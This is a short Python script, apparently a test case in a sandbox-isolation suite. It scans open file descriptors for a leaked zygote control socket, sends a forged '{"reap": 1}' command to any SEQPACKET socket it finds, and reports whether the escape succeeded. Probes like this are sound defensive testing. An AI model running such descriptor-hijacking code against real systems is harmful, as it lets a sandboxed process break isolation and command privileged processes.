"""Goal: find the control socket of the zygote, or any other descriptor that was not closed, and give orders there.

Without a sandbox: fails
"""

import os
import socket
import stat


def attack():
    sockets, others = [], []
    for descriptor in range(1024):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            sockets.append(descriptor)
        elif stat.S_ISDIR(mode) or stat.S_ISBLK(mode):
            others.append(descriptor)
    # One socket is the worker's own. The zygote's is of the kind that keeps messages apart.
    for descriptor in sockets:
        with socket.socket(fileno=os.dup(descriptor)) as found:
            if found.type == socket.SOCK_SEQPACKET:
                found.send(b'{"reap": 1}')
                raise RuntimeError(f"ATTACK SUCCEEDED: the zygote listens at descriptor {descriptor}")
    if len(sockets) > 1 or others:
        raise RuntimeError(f"ATTACK SUCCEEDED: descriptors {sockets + others} are open")
    raise RuntimeError("stopped by: no descriptor but its own")


attack()
